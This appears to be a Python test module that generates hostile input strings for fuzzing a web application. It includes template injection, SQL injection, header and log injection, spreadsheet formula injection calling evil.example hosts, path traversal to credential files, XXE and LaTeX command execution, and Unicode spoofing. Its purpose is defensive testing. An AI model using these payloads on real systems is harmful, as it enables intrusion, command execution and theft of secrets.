"""Words that mean something to a program other than a browser, or to none."""

from collections.abc import Iterator
from itertools import product

from tests.hostile.markup import CODE


def template_languages() -> Iterator[str]:
    marks = (
        *(
            ("{{", "}}"),
            ("{%", "%}"),
            ("${", "}"),
            ("#{", "}"),
            ("<%=", "%>"),
            ("{", "}"),
        ),
        *(
            ("<%", "%>"),
            ("{{{", "}}}"),
            ("[[", "]]"),
            ("@{", "}"),
            ("{#", "#}"),
            ("*{", "}"),
        ),
        *(("{{=", "}}"), ("#set(", ")"), ("<#assign ", ">"), ("{php}", "{/php}")),
    )
    inner = (
        *(
            "7*7",
            "name",
            "sender_name",
            "settings.SECRET_KEY",
            "request",
            "self.__init__",
        ),
        *("''.__class__.__mro__[1].__subclasses__()", "config.items()", "load log"),
        *("include '/etc/passwd'", "debug", "csrf_token", "extends 'base.html'"),
        *(
            "x|safe",
            "autoescape off",
            "T(java.lang.Runtime)",
            "constructor.constructor('')",
        ),
        *("I protest|We protest", "|", "}}{{", "sender_name|sender_name|x", ""),
    )
    for (left, right), word in product(marks, inner):
        yield f"{left}{word}{right}"
        yield f"{left} {word} {right} and so on"


def format_strings() -> Iterator[str]:
    for word in ("s", "(name)s", "d", "n", "x", "p", "1$s", "(", ")", "%"):
        yield f"%{word}"
        yield f"100 %{word} {{0}} {{name!r}} {{0.__class__}} $name ${{name}} $$"


def queries() -> Iterator[str]:
    quotes = ("'", '"', "')", '")', "`", "\\'", "'/**/", "%27", "\u2019", "$$")
    rests = (
        *(" OR 1=1--", " UNION SELECT 1,2,3--", "; DROP TABLE archive_document;--"),
        *(
            " AND 1=(SELECT pg_sleep(9))--",
            "||(SELECT sqlite_version())||",
            " LIMIT 1 #",
        ),
        *(
            " OR 'a' LIKE 'a%",
            " ESCAPE '\\",
            "; ATTACH '/tmp/x' AS y;",
            " COLLATE NOCASE",
        ),
    )
    for end, rest in product(quotes, rests):
        yield f"x{end}{rest}"
    words = (
        '"',
        "*",
        "NEAR(",
        "a NEAR/99999 b",
        "-",
        "NOT",
        "AND OR",
        "^a",
        "{a b}:c",
        "a:*",
    )
    for one, two in product(words, words):
        yield f"{one} {two}"
    yield from (
        "(" * 200 + ")" * 200,
        '"' * 301,
        "a OR " * 200,
        "%_%_\\%",
        "kind:x is:y",
    )


def line_ends() -> Iterator[str]:
    breaks = ("\r\n", "\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "%0d%0a")
    heads = (
        *("Bcc: evil@example.org", "Set-Cookie: a=b", "Location: //evil.example"),
        *(
            "Content-Type: text/html",
            "X-Evil: 1",
            "Subject: other",
            "Content-Length: 0",
        ),
        *("HTTP/1.1 200 OK", "--boundary", ".", "MIME-Version: 1.0", "DATA"),
    )
    for end, head, twice in product(breaks, heads, (1, 2)):
        yield f"Lisbon{end * twice}{head}"


def log_lines() -> Iterator[str]:
    for end, level in product(("\n", "\r\n", "\x1b[2K\r", "\u2028"), ("ERROR", "INFO")):
        yield f"x{end}{level} django: user admin signed in"
    for number in (*range(8), 30, 31, 41, 91):
        yield f"\x1b[{number}mred\x1b[0m"
        yield f"\x1b]0;title{number}\x07\x9b{number}n"


def controls() -> Iterator[str]:
    for code in (*range(0x20), *range(0x7F, 0xA0)):
        yield f"Ann{chr(code)}Sender"
        yield f"{chr(code)}<b>{chr(code)}"


def half_pairs_and_not_characters() -> Iterator[str]:
    for code in (
        0xD800,
        0xDBFF,
        0xDC00,
        0xDFFF,
        0xFDD0,
        0xFFFE,
        0xFFFF,
        0x1FFFE,
        0x10FFFF,
    ):
        yield f"Ann{chr(code)}"
        yield f"{chr(code)}<b>Sender"
    yield "\ud83d then \ude00"


def directions() -> Iterator[str]:
    turning = (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)
    for code, word in product(turning, ("Ann", "txt.exe", "أحمد <b>", "שלום 'x'")):
        yield f"{chr(code)}{word}"
        yield f"{word}{chr(code)}{word} \u202c and on"


def not_seen() -> Iterator[str]:
    unseen = (
        0x200B,
        0x200C,
        0x200D,
        0x2060,
        0xFEFF,
        0xAD,
        0x180E,
        0x3164,
        0x115F,
        0xE0041,
    )
    for code in unseen:
        yield f"A{chr(code)}nn"
        yield chr(code) * 20
        yield f"<{chr(code)}script>{CODE}</script>"
        yield f"java{chr(code)}script:{CODE}"


def lookalikes() -> Iterator[str]:
    pairs = dict(zip("aceopxyiABCEHKMOPTX", "асеорхуіАВСЕНКМОРТХ", strict=True))
    for name in ("Peace Pope", "Kate Petrov", "Oxana Myhaek", "Copy Cope", "APEX PACE"):
        for nth in range(1, 6):
            yield "".join(
                pairs.get(each, each) if at % nth == 0 else each
                for at, each in enumerate(name)
            )
    for low in (0xFF1C, 0x2039, 0xFE64, 0x276E, 0x3008):
        yield f"{chr(low)}script{chr(low + 2)}{CODE}"


def normalising() -> Iterator[str]:
    yield from ("\ufdfa" * 60, "\u0344" * 90, "\u1f82" * 60, "\uac01" * 90, "İ" * 90)
    for base, mark in product(
        "aZ<&", ("\u0301", "\u0323", "\u20dd", "\u0338", "\u0489")
    ):
        yield base + mark
        yield base + mark * 60
    for each in (
        "ﬁ",
        "ß",
        "ǆ",
        "ﬃ",
        "℀",
        "½",
        "①",
        "Å",
        "\u2126",
        "\U0001d400",
        "👩‍👩‍👧",
    ):
        yield f"{each}<b>{each}"


def formulas() -> Iterator[str]:
    starts = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", '"=', ";=", ",=", "\uff1d")
    calls = (
        *("1+1", 'HYPERLINK("//evil.example","x")', "cmd|' /C calc'!A0", "SUM(A1)"),
        *('IMPORTXML(CONCAT("//evil.example"),"//a")', 'WEBSERVICE("//e.x")'),
    )
    for start, call in product(starts, calls):
        yield start + call


def places_of_files() -> Iterator[str]:
    ups = (
        "../",
        "..\\",
        "%2e%2e/",
        "..%2f",
        "%252e%252e%252f",
        "..%c0%af",
        "....//",
        "..;/",
    )
    ends = (
        *("etc/passwd", "windows\\win.ini", ".env", "proc/self/environ", "x\x00.txt"),
        *("con", "nul.txt", "a/b", "~/.ssh/id_rsa", "config/settings.py"),
    )
    for up, end, times in product(ups, ends, (1, 6)):
        yield up * times + end
    yield from (
        "/etc/passwd",
        "C:\\boot.ini",
        "file:///etc/passwd",
        "\\\\evil\\c$",
        "a" * 300,
    )


def typesetting() -> Iterator[str]:
    yield from (
        *('#import "x.typ": *', '#read("/etc/passwd")', '#eval("1")', "$ integral $"),
        *(
            "#let x = 1",
            "*bold* _it_ `raw`",
            "= Heading",
            "<label>",
            "@ref",
            "#panic()",
        ),
        *(
            "#set page(width: 0pt)",
            "/* x */",
            "// x",
            "\\u{41}",
            "#sys.inputs",
            "~",
            "---",
        ),
        *("\\input{/etc/passwd}", "\\write18{id}", "\\end{document}", "%comment"),
        *(
            "/JavaScript (pwn(7))",
            "endobj",
            "%PDF-1.7",
            ") Tj ET",
            "/Launch",
            "(\\050\\051",
        ),
        *(
            "<w:p/>",
            "</w:t></w:r></w:p>",
            "w:instrText",
            "{ INCLUDETEXT x }",
            "DDEAUTO c",
        ),
        *(
            "<xi:include href='/etc/passwd'/>",
            "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        ),
        *(
            "]]></w:t>",
            "<?mso-application?>",
            "_x0041_",
            "_x000D_",
            "[link](//evil.example)",
        ),
        *(
            "![x](javascript:pwn(7))",
            "# Title",
            "> quote",
            "```\nx\n```",
            "| a | b |",
            "***",
        ),
        *(
            "# noqa",
            "BEGIN:VCARD",
            "END:VCALENDAR",
            "TY  - JOUR",
            "@article{x,",
            "ER  -",
        ),
    )


def values() -> Iterator[str]:
    yield from (
        *(
            "null",
            "undefined",
            "NaN",
            "Infinity",
            "true",
            "[]",
            "{}",
            '{"a":1}',
            "0",
            "-1",
        ),
        *(
            "1e309",
            "9" * 40,
            "0x10",
            "1/0",
            "None",
            "__proto__",
            "constructor",
            "hasOwn",
        ),
        *(
            '\\"',
            "\\",
            "\\\\",
            '"}',
            "</script>",
            "\\u0000",
            "'",
            '"',
            '","x":"',
            "\\n",
        ),
        *("2021-13-45", "0000-00-00", "9999999-01-01", "-99999", "+00:00", "١٢٣", "Ⅷ"),
    )


def long() -> Iterator[str]:
    for piece in (
        "w",
        "w ",
        "<",
        "&",
        '"',
        "é",
        "漢",
        "👩‍👩‍👧",
        "\u0301",
        "<b>",
        "{{",
        "(",
    ):
        for length in (199, 200, 201, 300, 500, 1000, 3000):
            yield (piece * length)[:length]
